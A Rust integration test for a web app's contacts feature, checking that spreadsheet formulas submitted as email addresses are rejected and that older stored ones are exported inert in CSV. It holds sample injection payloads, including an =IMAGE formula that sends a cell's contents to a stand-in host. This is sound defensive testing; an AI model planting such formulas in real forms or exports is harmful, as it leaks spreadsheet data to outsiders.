//! CSV formula injection: a visitor plants a spreadsheet formula as their "email" through a
//! public form, and it runs when the owner opens the exported contacts.

use crate::common::bio::publish;
use crate::common::crm::{add, ok};
use crate::common::people::{signed_up, unique, workspace};
use crate::common::TestApp;
use axum::http::StatusCode;
use mongodb::bson::doc;
use serde_json::json;

/// `=IMAGE("https://x.example/?"&A3)@x.example`, form-encoded: a valid address by the old rules.
const FORMULA_EMAIL: &str = "%3DIMAGE(%22https%3A%2F%2Fx.example%2F%3F%22%26A3)%40x.example";

#[tokio::test]
async fn a_formula_posted_as_a_bio_signup_email_is_refused_and_never_exported_live() {
    let app = TestApp::start().await;
    let (mut c, _) = signed_up(&app, "csv").await;
    let handle = unique("csv");
    let ws = workspace(&mut c, &handle).await;
    let capture = json!({ "id": "news", "on": true, "kind": { "type": "email_capture", "heading": "News", "button": "Join" } });
    publish(&mut c, &ws, json!([capture])).await;

    let res = app
        .request(crate::common::bio::signup(&handle, FORMULA_EMAIL))
        .await;
    assert_eq!(res.status(), StatusCode::SEE_OTHER);
    let to = res.headers()["location"].to_str().unwrap().to_owned();
    assert!(to.contains("signup=invalid"), "{to}");
    let all = ok(&mut c, "list_contacts", &[("workspace_id", &ws)]).await;
    assert_eq!(all["total"], 0);
    for bad in [
        "=1+1@x.example",
        "+cmd@x.example",
        "-2@x.example",
        "@SUM(A1)@x.example",
    ] {
        let a = c
            .call(
                "save_contact",
                &[("workspace_id", &ws), ("name", "Formula"), ("emails", bad)],
            )
            .await;
        assert_eq!(
            a.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{bad}: {}",
            a.body
        );
        assert!(!a.field_errors("emails").is_empty(), "{bad}: {}", a.body);
    }

    // An address stored before the rule existed is exported inert, like every other cell.
    let planted = add(&mut c, &ws, "Planted", "planted@example.com", &[]).await;
    app.state
        .db
        .collection::<mongodb::bson::Document>("crm_contacts")
        .update_one(
            doc! { "_id": planted["id"].as_str().unwrap() },
            doc! { "$set": { "emails": ["=HYPERLINK(\"https://x.example\")@x.example"] } },
        )
        .await
        .unwrap();
    let csv = c.get(&format!("/workspaces/{ws}/crm/contacts.csv")).await;
    assert_eq!(csv.status, StatusCode::OK, "{}", csv.body);
    let line = csv.body.lines().nth(1).unwrap();
    assert!(
        line.starts_with("Planted,\"'=HYPERLINK("),
        "the email cell is guarded: {line}"
    );
    app.cleanup().await;
}
